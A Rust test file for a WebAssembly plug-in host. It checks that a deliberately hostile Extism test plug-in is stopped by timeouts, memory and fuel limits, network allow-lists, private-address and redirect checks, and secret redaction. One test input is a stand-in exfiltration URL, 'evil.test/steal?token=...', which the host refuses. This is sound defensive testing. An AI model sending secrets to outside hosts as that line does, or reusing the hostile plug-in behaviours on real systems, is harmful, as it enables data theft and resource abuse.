//! Extism plug-ins (`kind = "extism"`) through the embedding API: the example built with the
//! Extism Rust PDK (`examples/extism/count-vowels`) answers as Extism's own host does, and the
//! hostile plug-in (`tests/guests/extism-hostile`) is stopped with a clear error and an audit
//! record each time, the host serving the next call.

use std::fs;

use warden_audit::{Event, Outcome, Record};
use warden_host::{CallError, ExtensionId, Grant, Policy, SecretName, SecretValue, TenantName};

use crate::egress::{FakeResolver, Server, allow_loopback, network, reply};
use crate::support::{Lab, text};

const EXAMPLE: &str = "extism/count-vowels";
const HOSTILE: &str = "extism-hostile";
const WASI: &str = "extism-wasi";

fn grant(s: &str) -> Grant {
    s.parse().unwrap()
}

fn records(lab: &Lab, event: Event) -> Vec<Record> {
    lab.audit
        .records()
        .into_iter()
        .filter(|r| r.event() == event)
        .collect()
}

fn last_of(lab: &Lab, event: Event) -> Record {
    records(lab, event).pop().unwrap()
}

async fn fails(lab: &Lab, id: &ExtensionId, method: &str, input: &str) -> CallError {
    lab.call(id, method, input.as_bytes())
        .await
        .expect_err("the call must fail")
        .error
}

/// The host still serves the plug-in: a harmless call answers.
async fn still_serves(lab: &Lab, id: &ExtensionId) {
    let out = lab.call(id, "config", b"nothing").await.unwrap();
    assert_eq!(text(&out), "none");
}

#[tokio::test(flavor = "multi_thread")]
async fn count_vowels_answers_as_extisms_own_host_does() {
    let lab = Lab::new();
    let id = lab.load_granted(EXAMPLE, |m| m, &grant("secret:vowels"));
    lab.host
        .tenant(&TenantName::default_tenant())
        .put_secret(
            &id,
            &"vowels".parse::<SecretName>().unwrap(),
            SecretValue::new("aeiouyAEIOUY".into()).unwrap(),
        )
        .unwrap();
    // docs/design/extism/run-extism-ref.stdout, call#0 (Extism 1.30.0, the same config).
    let expected = r#"{"count":5,"total":5,"vowels":"aeiouyAEIOUY","input_len":17}"#;
    for _ in 0..2 {
        let called = lab
            .host
            .default_tenant()
            .call(&id, "count_vowels", b"Hello, World! yes")
            .await
            .unwrap();
        // Vars live for one call: the running total starts again every call.
        assert_eq!(text(&called.value), expected);
        let logs: Vec<&str> = called.logs.iter().map(|l| l.text.as_str()).collect();
        // The info line is kept; the debug line is below the capture level.
        assert_eq!(logs, ["counted 5 vowels (total 5)"], "{:?}", called.logs);
    }
    let call = last_of(&lab, Event::Call);
    assert_eq!(call.outcome(), Outcome::Ok);
    let grants = records(&lab, Event::Grant);
    assert!(
        grants
            .iter()
            .any(|r| r.capability() == Some("secrets") && r.target() == Some("vowels")),
        "{grants:#?}"
    );
    // An error set with error_set fails the call with the plug-in's message and code.
    match fails(&lab, &id, "fail", "boom").await {
        CallError::Extension { code, message } => {
            assert_eq!(code, "7");
            assert!(message.contains("failing on purpose: boom"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(last_of(&lab, Event::Call).outcome(), Outcome::Error);
}

/// The raw ABI at its edges, as Extism's kernel answers (research run on Extism 1.30.0:
/// `docs/design/extism/run-extism-ref.stdout`, `probe`), handles aside (any non-zero
/// handle is valid; these are warden's offsets).
#[tokio::test(flavor = "multi_thread")]
async fn the_host_abi_answers_at_its_edges_as_extisms_kernel_does() {
    let lab = Lab::new();
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    let out = text(
        &lab.call(&id, "probe", b"0123456789abcdefXYZ")
            .await
            .unwrap(),
    );
    assert_eq!(
        out,
        "alloc0=0 length(a)=10 length_unsafe(a)=10 length(a+1)=0 length(0)=0 \
         word=0x102030405060708 load_u8(2^40)=0 load_u64(2^40)=0 input_length=19 \
         input_load_u8(len+5)=0 input_load_u64(len-4)=0 length(freed)=0 config_get(missing)=0 \
         var_before=Some(\"x\") var_after=None input_head=0123456789abcdef"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn config_not_granted_reads_as_absent_and_is_audited_as_a_denial() {
    let lab = Lab::new();
    // The example without its grant: the default vowels, and a denial for `vowels`.
    let example = lab.load_granted(EXAMPLE, |m| m, &Grant::None);
    let out = text(
        &lab.call(&example, "count_vowels", b"Hello, World! yes")
            .await
            .unwrap(),
    );
    assert_eq!(
        out,
        r#"{"count":4,"total":4,"vowels":"aeiouAEIOU","input_len":17}"#
    );
    let hostile = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    assert_eq!(
        text(&lab.call(&hostile, "config", b"API_TOKEN").await.unwrap()),
        "none"
    );
    let d = records(&lab, Event::Denial);
    let targets: Vec<(Option<&str>, Option<&str>)> =
        d.iter().map(|r| (r.capability(), r.target())).collect();
    assert!(
        targets.contains(&(Some("secrets"), Some("vowels"))),
        "{d:#?}"
    );
    assert!(
        targets.contains(&(Some("secrets"), Some("API_TOKEN"))),
        "{d:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn limits_stop_the_plug_in_and_the_host_serves_the_next_call() {
    let lab = Lab::new();
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);

    let e = fails(&lab, &id, "spin", "").await;
    assert!(matches!(e, CallError::Timeout(_)), "{e:?}");
    assert_eq!(last_of(&lab, Event::Limit).outcome(), Outcome::Timeout);
    still_serves(&lab, &id).await;

    // Its own linear memory, then Extism memory (the host's arena) through `alloc`: both
    // count against max_memory (strict: 16 MiB).
    for method in ["grow", "alloc_bomb"] {
        let e = fails(&lab, &id, method, "").await;
        assert!(matches!(e, CallError::MemoryLimit(_)), "{method}: {e:?}");
        let limit = last_of(&lab, Event::Limit);
        assert_eq!(limit.outcome(), Outcome::MemoryLimit, "{method}");
        still_serves(&lab, &id).await;
    }

    // An output over max_response_bytes (5 MiB), with memory enough to make it.
    let roomy = lab.load_granted(
        HOSTILE,
        |m| {
            m.replace(
                "profile = \"strict\"",
                "profile = \"strict\"\nmax_memory = \"64MiB\"",
            )
        },
        &Grant::All,
    );
    let e = fails(&lab, &roomy, "huge", "6").await;
    assert!(
        matches!(e, CallError::TooLarge { what: "result", .. }),
        "{e:?}"
    );
    still_serves(&lab, &id).await;

    // Vars are bounded per call.
    let e = fails(&lab, &id, "vars", "").await;
    match e {
        CallError::Trap(m) => assert!(m.contains("var_set"), "{m}"),
        other => panic!("{other:?}"),
    }
    still_serves(&lab, &id).await;

    // Handles the host never gave out: loads and stores do nothing, a host function refuses.
    match fails(&lab, &id, "bad_handle", "").await {
        CallError::Trap(m) => assert!(
            m.contains("log_info: the message handle") && m.contains("not a block"),
            "{m}"
        ),
        other => panic!("{other:?}"),
    }
    still_serves(&lab, &id).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fuel_stops_a_busy_plug_in_when_configured() {
    let lab = Lab::new();
    let id = lab.load_granted(
        HOSTILE,
        |m| {
            m.replace(
                "max_execution_time = \"1s\"",
                "max_execution_time = \"1s\"\nmax_fuel = 1000000",
            )
        },
        &Grant::All,
    );
    let e = fails(&lab, &id, "spin", "").await;
    assert!(matches!(e, CallError::FuelExhausted(1_000_000)), "{e:?}");
    still_serves(&lab, &id).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn http_request_goes_through_the_egress_checks() {
    let server = Server::ok("hello from the allowed host");
    let port = server.port();
    // The redirect's target: never reached.
    let inner = Server::ok("internal");
    let redirect = Server::start(
        "127.0.0.1",
        0,
        reply(
            "302 Found",
            &[&format!("location: http://internal.test:{}/", inner.port())],
            b"moved",
        ),
    );
    let resolver = FakeResolver::new(&[
        ("api.acme.test", &[&["127.0.0.1"]]),
        ("moved.acme.test", &[&["127.0.0.1"]]),
        ("private.acme.test", &[&["10.0.0.7"]]),
        ("internal.test", &[&["127.0.0.1"]]),
    ]);
    let lab = Lab::with_resolver(allow_loopback(), Some(resolver.clone()));
    let id = lab.load_granted(
        HOSTILE,
        network(
            &["api.acme.test", "moved.acme.test", "private.acme.test"],
            &[port, redirect.port(), 80],
        ),
        &Grant::All,
    );

    // Allowed: the answer, a grant record, egress bytes counted.
    let url = format!("http://api.acme.test:{port}/hello");
    let out = text(&lab.call(&id, "fetch", url.as_bytes()).await.unwrap());
    assert_eq!(out, "200 hello from the allowed host");
    assert_eq!(server.connections(), 1);
    let call = last_of(&lab, Event::Call);
    assert_eq!(call.outcome(), Outcome::Ok);
    assert!(call.egress_bytes().unwrap_or(0) > 0);

    // A host not in the list: refused before any lookup, the call ends with an error naming
    // it, a denial record; nothing sent.
    let lookups = resolver.calls();
    match fails(&lab, &id, "fetch", "http://evil.test/steal?token=hunter2").await {
        CallError::Trap(m) => assert!(
            m.contains("http_request to http://evil.test:80 was refused"),
            "{m}"
        ),
        other => panic!("{other:?}"),
    }
    assert_eq!(resolver.calls(), lookups);
    let denial = last_of(&lab, Event::Denial);
    assert_eq!(denial.capability(), Some("network"));
    assert_eq!(denial.target(), Some("http://evil.test:80"));
    assert_eq!(last_of(&lab, Event::Call).outcome(), Outcome::Trap);
    let all = format!("{:?}", lab.audit.records());
    assert!(!all.contains("hunter2"), "the query is in no record");

    // An allowed name resolving to a private address: refused after the lookup.
    match fails(&lab, &id, "fetch", "http://private.acme.test/").await {
        CallError::Trap(m) => {
            assert!(
                m.contains("http_request to http://private.acme.test:80 was refused")
                    && m.contains("non-public address"),
                "{m}"
            )
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        last_of(&lab, Event::Denial).target(),
        Some("http://private.acme.test:80")
    );

    // A redirect to a host outside the list is not followed: the plug-in sees the 302.
    let url = format!("http://moved.acme.test:{}/", redirect.port());
    let out = text(&lab.call(&id, "fetch", url.as_bytes()).await.unwrap());
    assert_eq!(out, "302 moved");
    assert_eq!(redirect.connections(), 1);
    assert_eq!(inner.connections(), 0, "the redirect was not followed");

    // The host serves the next call.
    let url = format!("http://api.acme.test:{port}/again");
    let out = text(&lab.call(&id, "fetch", url.as_bytes()).await.unwrap());
    assert_eq!(out, "200 hello from the allowed host");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_network_permission_http_request_is_refused() {
    let lab = Lab::with_policy(Policy::default());
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    match fails(&lab, &id, "fetch", "https://example.com/").await {
        CallError::Trap(m) => assert!(
            m.contains("http_request to https://example.com:443 was refused"),
            "{m}"
        ),
        other => panic!("{other:?}"),
    }
    let denial = last_of(&lab, Event::Denial);
    assert_eq!(denial.capability(), Some("network"));
    still_serves(&lab, &id).await;
}

/// A plug-in staged from `wat` with `methods` in its manifest; its load's error, if any.
fn load_wat(lab: &Lab, wat: &str, methods: &[&str]) -> Result<(), String> {
    let stage = lab.dir.path().join(format!("wat-{}", rand_name()));
    fs::create_dir_all(&stage).unwrap();
    let mut manifest = "schema = 1\n\n[extension]\nid = \"test.plugin\"\nversion = \"0.1.0\"\n\
        publisher = \"warden-examples\"\nkind = \"extism\"\nentry = \"plugin.wasm\"\n"
        .to_string();
    for m in methods {
        manifest.push_str(&format!("\n[[methods]]\nname = \"{m}\"\n"));
    }
    fs::write(stage.join("extension.toml"), manifest).unwrap();
    fs::write(stage.join("plugin.wasm"), wat::parse_str(wat).unwrap()).unwrap();
    let path = lab.sign_dir(&stage);
    lab.host
        .default_tenant()
        .load_file(&path, None, &Grant::All)
        .map(drop)
        .map_err(|e| warden_call_chain(&e))
}

fn warden_call_chain(e: &(dyn std::error::Error + 'static)) -> String {
    let mut out = e.to_string();
    let mut next = e.source();
    while let Some(s) = next {
        out.push_str(": ");
        out.push_str(&s.to_string());
        next = s.source();
    }
    out
}

fn rand_name() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static N: AtomicU64 = AtomicU64::new(0);
    N.fetch_add(1, Ordering::SeqCst)
}

#[test]
fn a_plug_in_that_cannot_run_here_is_refused_at_load_with_the_reason() {
    let lab = Lab::new();
    let run = r#"(func (export "run") (result i32) i32.const 0)"#;
    load_wat(&lab, &format!("(module {run})"), &["run"]).unwrap();
    for (wat, methods, says) in [
        (
            format!(
                r#"(module (import "extism:host/user" "mine" (func (param i64) (result i64))) {run})"#
            ),
            &["run"][..],
            "extism:host/user::mine: a user-defined host function",
        ),
        (
            format!(
                r#"(module (import "wasi_snapshot_preview1" "fd_write" (func (param i32 i32 i32 i32) (result i32))) {run})"#
            ),
            &["run"][..],
            "wasi_snapshot_preview1::fd_write, and its manifest does not ask for WASI",
        ),
        (
            format!(r#"(module (import "wasi_snapshot_preview1" "fd_wrote" (func)) {run})"#),
            &["run"][..],
            "wasi_snapshot_preview1::fd_wrote: not a function of WASI preview 1",
        ),
        (
            format!(r#"(module (import "extism:host/env" "nope" (func)) {run})"#),
            &["run"][..],
            "extism:host/env::nope: not an Extism host function",
        ),
        (
            format!(r#"(module (import "extism:host/env" "alloc" (func (param i32))) {run})"#),
            &["run"][..],
            "alloc",
        ),
        (
            format!("(module {run})"),
            &["missing"][..],
            "lists method \"missing\", but the plug-in exports no such function",
        ),
        (
            r#"(module (func (export "run") (param i32) (result i32) i32.const 0))"#.to_string(),
            &["run"][..],
            "not as an Extism function `() -> i32`",
        ),
    ] {
        let e = load_wat(&lab, &wat, methods).unwrap_err();
        assert!(e.contains(says), "{says}: {e}");
    }
    // A component where a core module belongs: refused when the bundle is packed (and read).
    let stage = lab.dir.path().join("component");
    fs::create_dir_all(&stage).unwrap();
    fs::write(
        stage.join("extension.toml"),
        "schema = 1\n\n[extension]\nid = \"test.plugin\"\nversion = \"0.1.0\"\n\
         publisher = \"warden-examples\"\nkind = \"extism\"\nentry = \"plugin.wasm\"\n\n\
         [[methods]]\nname = \"run\"\n",
    )
    .unwrap();
    fs::write(
        stage.join("plugin.wasm"),
        wat::parse_str("(component)").unwrap(),
    )
    .unwrap();
    let e = warden_bundle::pack_dir(&stage, &warden_bundle::BundleLimits::default())
        .err()
        .unwrap()
        .to_string();
    assert!(e.contains("not a core WebAssembly module"), "{e}");
    // Each refusal left a load record.
    let loads = records(&lab, Event::Load);
    assert!(loads.iter().any(|r| r.outcome() == Outcome::Invalid));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_deadline_stops_a_plug_in_blocked_in_http_request() {
    // Accepted by the kernel, never answered.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let resolver = FakeResolver::new(&[("slow.acme.test", &[&["127.0.0.1"]])]);
    let lab = Lab::with_resolver(allow_loopback(), Some(resolver));
    let id = lab.load_granted(HOSTILE, network(&["slow.acme.test"], &[port]), &Grant::All);
    let started = std::time::Instant::now();
    let url = format!("http://slow.acme.test:{port}/");
    let e = fails(&lab, &id, "fetch", &url).await;
    assert!(matches!(e, CallError::Timeout(_)), "{e:?}");
    // max_execution_time is 1 s; the request's own first-byte timeout would be 10 s.
    assert!(started.elapsed() < std::time::Duration::from_secs(3));
    assert_eq!(last_of(&lab, Event::Limit).outcome(), Outcome::Timeout);
    still_serves(&lab, &id).await;
    drop(silent);
}

#[tokio::test(flavor = "multi_thread")]
async fn config_values_are_redacted_from_the_plug_ins_logs_and_errors() {
    const TOKEN: &str = "Sup3r-S3cret-Tok3n-extism";
    let lab = Lab::new();
    let id = lab.load_granted(
        HOSTILE,
        |m| m + "\n[permissions]\nsecrets = [\"API_TOKEN\"]\n",
        &grant("secret:API_TOKEN"),
    );
    lab.host
        .tenant(&TenantName::default_tenant())
        .put_secret(
            &id,
            &"API_TOKEN".parse::<SecretName>().unwrap(),
            SecretValue::new(TOKEN.into()).unwrap(),
        )
        .unwrap();
    let failure = lab
        .host
        .default_tenant()
        .call(&id, "leak", b"API_TOKEN")
        .await
        .expect_err("the plug-in fails on purpose");
    let shown = format!("{:?} {:?}", failure.error, failure.logs);
    assert!(!shown.contains(TOKEN), "{shown}");
    assert!(shown.contains("leaking"), "{shown}");
    assert!(
        failure
            .logs
            .iter()
            .any(|l| l.text.starts_with("the value is ")),
        "{:?}",
        failure.logs
    );
    let all = format!("{:?}", lab.audit.records());
    assert!(!all.contains(TOKEN), "{all}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_plug_in_that_asks_for_wasi_gets_clocks_random_and_captured_output_and_nothing_else() {
    let lab = Lab::new();
    let id = lab.load_granted(WASI, |m| m, &Grant::All);
    let called = lab
        .host
        .default_tenant()
        .call(&id, "hello", b"world")
        .await
        .unwrap();
    assert_eq!(text(&called.value), "hello, world");
    let lines: Vec<(String, String)> = called
        .logs
        .iter()
        .map(|l| (format!("{:?}", l.stream), l.text.clone()))
        .collect();
    assert!(
        lines.contains(&("Stdout".into(), "to stdout: world".into()))
            && lines.contains(&("Stderr".into(), "to stderr: world".into())),
        "{lines:?}"
    );
    // No arguments, environment or files; clocks and random work. Nothing was written on the
    // host.
    let probe = text(&lab.call(&id, "probe", b"").await.unwrap());
    for part in [
        r#""args":0"#,
        r#""env":0"#,
        r#""clock":true"#,
        r#""random":true"#,
    ] {
        assert!(probe.contains(part), "{part}: {probe}");
    }
    for (what, read) in [("file", "read "), ("root", "listed "), ("write", "written")] {
        assert!(
            !probe.contains(&format!(r#""{what}":"{read}"#)),
            "{what}: {probe}"
        );
    }
    assert!(!std::path::Path::new("/tmp/escape").exists());
    // Output past the capture's cap is dropped and counted, the call answers.
    let flooded = lab
        .host
        .default_tenant()
        .call(&id, "flood", b"1048576")
        .await
        .unwrap();
    assert_eq!(text(&flooded.value), "wrote 1048576");
    let kept: usize = flooded.logs.iter().map(|l| l.text.len()).sum();
    assert!(kept <= 80 * 1024, "{kept}");
    assert!(
        flooded.logs.iter().any(|l| l.text.contains("dropped")),
        "{:?}",
        flooded.logs.last()
    );
    // `proc_exit` ends the call, not the host.
    match fails(&lab, &id, "quit", "3").await {
        CallError::Extension { code, message } => {
            assert_eq!(code, "3");
            assert!(message.contains("exited with code 3"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    // Exit 0 is a return of 0 (no output set).
    assert_eq!(lab.call(&id, "quit", b"0").await.unwrap(), b"");
    let again = lab.call(&id, "hello", b"again").await.unwrap();
    assert_eq!(text(&again), "hello, again");
}

#[test]
fn wasi_imports_are_refused_unless_the_manifest_asks_for_wasi() {
    let lab = Lab::new();
    let path = lab.bundle(WASI, |m| m.replace("[extism]\nwasi = true\n", ""));
    let e = lab
        .host
        .default_tenant()
        .load_file(&path, None, &Grant::All)
        .map(drop)
        .unwrap_err();
    let e = warden_call_chain(&e);
    assert!(
        e.contains("wasi_snapshot_preview1::") && e.contains("does not ask for WASI"),
        "{e}"
    );
    let load = last_of(&lab, Event::Load);
    assert_eq!(load.outcome(), Outcome::Invalid);
    // The same module, asked for: loads (the refusal was about that bundle, not the module).
    lab.load_granted(WASI, |m| m, &Grant::All);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_plug_in_is_compiled_once_and_served_from_the_code_cache_after_a_restart() {
    let lab = Lab::new();
    let id = lab.load_granted(EXAMPLE, |m| m, &Grant::None);
    let stats = lab.host.code_stats();
    assert_eq!((stats.compiled, stats.cache_hits), (1, 0), "{stats:?}");
    assert_eq!(
        text(&lab.call(&id, "greet", b"cache").await.unwrap()),
        "Hello, cache!"
    );
    let cache = lab.dir.path().join("data/cache");
    let entries: Vec<String> = fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("module-"))
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    // Another host on the data dir, as after a restart (counted from here: hosts of one
    // process with equal settings share an engine and its counts).
    let host = lab.restarted_host();
    let before = host.code_stats();
    let path = lab.bundle(EXAMPLE, |m| m);
    let id = host
        .default_tenant()
        .load_file(&path, None, &Grant::None)
        .unwrap()
        .id;
    let after = host.code_stats();
    assert_eq!(
        (
            after.compiled - before.compiled,
            after.cache_hits - before.cache_hits
        ),
        (0, 1),
        "{before:?} {after:?}"
    );
    let out = host
        .default_tenant()
        .call(&id, "greet", b"again")
        .await
        .unwrap();
    assert_eq!(text(&out.value), "Hello, again!");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tampered_plug_in_cache_entry_is_never_loaded_and_is_audited() {
    let lab = Lab::new();
    lab.load_granted(EXAMPLE, |m| m, &Grant::None);
    let cache = lab.dir.path().join("data/cache");
    let entry = fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("module-")
        })
        .unwrap();
    let mut bytes = fs::read(&entry).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 0x55;
    fs::write(&entry, &bytes).unwrap();
    // Another bundle of the same module (its manifest differs): looked up in the cache.
    let before = lab.host.code_stats();
    let id = lab.load_granted(
        EXAMPLE,
        |m| m.replace("counts the vowels", "counts vowels"),
        &Grant::None,
    );
    let after = lab.host.code_stats();
    assert_eq!(
        (
            after.compiled - before.compiled,
            after.cache_hits - before.cache_hits,
            after.cache_rejected - before.cache_rejected
        ),
        (1, 0, 1),
        "{before:?} {after:?}"
    );
    let loads = records(&lab, Event::Load);
    assert!(
        loads
            .iter()
            .any(|r| r.outcome() == Outcome::Invalid
                && format!("{r:?}").contains("MAC does not match")),
        "{loads:?}"
    );
    let out = lab.call(&id, "greet", b"fresh").await.unwrap();
    assert_eq!(text(&out), "Hello, fresh!");
    // The fresh entry replaced the tampered one.
    assert_ne!(fs::read(&entry).unwrap(), bytes);
}

/// The raw ABI with arguments no PDK sends (red team of session 15): sizes are checked before
/// anything is copied, handle 0 is the empty string, an error survives its block being
/// freed, an allocation past anything countable is over max_memory.
#[tokio::test(flavor = "multi_thread")]
async fn host_functions_bound_what_they_copy_and_read_handle_0_as_empty() {
    let lab = Lab::new();
    let headers: String = (0..101).map(|i| format!(r#""h{i}":"v","#)).collect();
    let many = format!(
        r#"{{"url":"http://203.0.113.9/","headers":{{{}}}}}"#,
        headers.trim_end_matches(',')
    );
    let connect = r#"{"url":"http://203.0.113.9/","method":"CONNECT"}"#;
    let esc = |s: &str| s.replace('"', "\\\"");
    let wat = format!(
        r#"(module
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "free" (func $free (param i64)))
  (import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
  (import "extism:host/env" "log_error" (func $log_error (param i64)))
  (import "extism:host/env" "error_set" (func $error_set (param i64)))
  (import "extism:host/env" "config_get" (func $config_get (param i64) (result i64)))
  (import "extism:host/env" "var_set" (func $var_set (param i64 i64)))
  (import "extism:host/env" "http_request" (func $http_request (param i64 i64) (result i64)))
  (memory 1)
  (data (i32.const 0) "{many}")
  (data (i32.const 4096) "{connect}")
  ;; A block holding guest memory [at, at+len).
  (func $block (param $at i32) (param $len i32) (result i64)
    (local $h i64) (local $i i32)
    (local.set $h (call $alloc (i64.extend_i32_u (local.get $len))))
    (block $done (loop $next
      (br_if $done (i32.ge_u (local.get $i) (local.get $len)))
      (call $store_u8 (i64.add (local.get $h) (i64.extend_i32_u (local.get $i)))
        (i32.load8_u (i32.add (local.get $at) (local.get $i))))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br $next)))
    (local.get $h))
  (func (export "big_log") (result i32)
    (call $log_error (call $alloc (i64.const 8388608))) i32.const 0)
  (func (export "big_request") (result i32)
    (drop (call $http_request (call $alloc (i64.const 1048576)) (i64.const 0))) i32.const 0)
  (func (export "many_headers") (result i32)
    (drop (call $http_request (call $block (i32.const 0) (i32.const {many_len})) (i64.const 0)))
    i32.const 0)
  (func (export "connect") (result i32)
    (drop (call $http_request (call $block (i32.const 4096) (i32.const {connect_len})) (i64.const 0)))
    i32.const 0)
  (func (export "big_var") (result i32)
    (call $var_set (call $block (i32.const 0) (i32.const 1)) (call $alloc (i64.const 2097152)))
    i32.const 0)
  (func (export "zero") (result i32)
    (call $log_error (i64.const 0))
    (drop (call $config_get (i64.const 0)))
    i32.const 0)
  (func (export "error_freed") (result i32)
    (local $h i64)
    (local.set $h (call $block (i32.const 4096) (i32.const 8)))
    (call $error_set (local.get $h))
    (call $free (local.get $h))
    (drop (call $alloc (i64.const 8)))
    i32.const 0)
  (func (export "alloc_max") (result i32)
    (drop (call $alloc (i64.const -10))) i32.const 0))"#,
        many = esc(&many),
        connect = esc(connect),
        many_len = many.len(),
        connect_len = connect.len(),
    );
    let methods = [
        "big_log",
        "big_request",
        "many_headers",
        "connect",
        "big_var",
        "zero",
        "error_freed",
        "alloc_max",
    ];
    load_wat(&lab, &wat, &methods).unwrap();
    let id: ExtensionId = "test.plugin".parse().unwrap();
    // An 8 MiB message (zeros, each escaped to 6 bytes if decoded whole) is cut first.
    let called = lab
        .host
        .default_tenant()
        .call(&id, "big_log", b"")
        .await
        .unwrap();
    let kept: usize = called.logs.iter().map(|l| l.text.len()).sum();
    assert!(kept <= 7 * 64 * 1024, "{kept}");
    for (method, says) in [
        (
            "big_request",
            "http_request: the request is 1048576 bytes, more than the 65536",
        ),
        ("many_headers", "sets 101 headers, more than the 100"),
        ("connect", "the method CONNECT is not allowed"),
        ("big_var", "var_set: the value is 2097152 bytes"),
    ] {
        match fails(&lab, &id, method, "").await {
            CallError::Trap(m) => assert!(m.contains(says), "{method}: {m}"),
            other => panic!("{method}: {other:?}"),
        }
    }
    // Handle 0: an empty log line and an empty config key (absent, and a denial).
    let denials = records(&lab, Event::Denial).len();
    let zero = lab
        .host
        .default_tenant()
        .call(&id, "zero", b"")
        .await
        .unwrap();
    assert!(
        zero.logs.iter().any(|l| l.text.is_empty()),
        "{:?}",
        zero.logs
    );
    assert!(records(&lab, Event::Denial).len() > denials);
    match fails(&lab, &id, "error_freed", "").await {
        CallError::Extension { message, .. } => {
            assert!(message.starts_with("{\"url\""), "{message}")
        }
        other => panic!("{other:?}"),
    }
    let e = fails(&lab, &id, "alloc_max", "").await;
    assert!(matches!(e, CallError::MemoryLimit(_)), "{e:?}");
    assert_eq!(last_of(&lab, Event::Limit).outcome(), Outcome::MemoryLimit);
}

#[tokio::test(flavor = "multi_thread")]
async fn live_plug_in_instances_are_counted_in_the_pool_usage() {
    let lab = Lab::new();
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    assert_eq!(lab.host.pool_usage().plugins, 0);
    let host = lab.host.clone();
    let spinning = {
        let id = id.clone();
        tokio::spawn(async move { host.default_tenant().call(&id, "spin", b"").await })
    };
    let started = std::time::Instant::now();
    while lab.host.pool_usage().plugins == 0 {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "the spinning plug-in was never counted"
        );
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    assert_eq!(lab.host.pool_usage().plugins, 1);
    let e = spinning
        .await
        .unwrap()
        .expect_err("it spins past its limit")
        .error;
    assert!(matches!(e, CallError::Timeout(_)), "{e:?}");
    assert_eq!(lab.host.pool_usage().plugins, 0);
}

/// Red team of session 15: `poll_oneoff` with hundreds of thousands of subscriptions made a
/// host object for each, outside the call's memory budget. Over the cap it answers `inval`
/// at once; a small poll (a 1 ms sleep) still works.
#[tokio::test(flavor = "multi_thread")]
async fn poll_oneoff_waits_on_a_bounded_number_of_subscriptions() {
    let lab = Lab::new();
    let stage = lab.dir.path().join("poll");
    fs::create_dir_all(&stage).unwrap();
    fs::write(
        stage.join("extension.toml"),
        "schema = 1\n\n[extension]\nid = \"test.poll\"\nversion = \"0.1.0\"\n\
         publisher = \"warden-examples\"\nkind = \"extism\"\nentry = \"plugin.wasm\"\n\n\
         [extism]\nwasi = true\n\n[[methods]]\nname = \"many\"\n\n[[methods]]\nname = \"sleep\"\n",
    )
    .unwrap();
    // A clock subscription at 0: userdata 0, tag 0 (clock), clock id 1 (monotonic),
    // timeout 1 ms, precision 0, flags 0 (relative).
    let wat = r#"(module
      (import "wasi_snapshot_preview1" "poll_oneoff"
        (func $poll (param i32 i32 i32 i32) (result i32)))
      (memory (export "memory") 2)
      (data (i32.const 8) "\00")
      (data (i32.const 16) "\01\00\00\00\00\00\00\00\40\42\0f\00\00\00\00\00")
      (func (export "many") (result i32)
        (call $poll (i32.const 0) (i32.const 65536) (i32.const 200000) (i32.const 60000)))
      (func (export "sleep") (result i32)
        (call $poll (i32.const 0) (i32.const 65536) (i32.const 1) (i32.const 60000))))"#;
    fs::write(stage.join("plugin.wasm"), wat::parse_str(wat).unwrap()).unwrap();
    let path = lab.sign_dir(&stage);
    let id = lab
        .host
        .default_tenant()
        .load_file(&path, None, &Grant::All)
        .unwrap()
        .id;
    // The export returns poll_oneoff's errno as its code: 28 (inval), at once.
    let started = std::time::Instant::now();
    match fails(&lab, &id, "many", "").await {
        CallError::Extension { code, .. } => assert_eq!(code, "28"),
        other => panic!("{other:?}"),
    }
    assert!(started.elapsed() < std::time::Duration::from_millis(500));
    // One subscription: waits and answers 0.
    assert_eq!(lab.call(&id, "sleep", b"").await.unwrap(), b"");
}
